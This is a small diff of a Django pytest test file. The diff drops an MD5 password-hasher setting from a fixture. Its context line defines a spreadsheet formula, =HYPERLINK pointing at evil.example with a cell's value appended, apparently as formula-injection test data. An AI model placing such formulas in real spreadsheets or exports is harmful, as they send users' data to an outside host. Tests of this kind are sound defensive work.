@@ -36,7 +36,6 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 @pytest.fixture(autouse=True)
 def _staff_zone(settings):
     settings.TIME_ZONE = ZONE
-    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
 
 
 @pytest.fixture
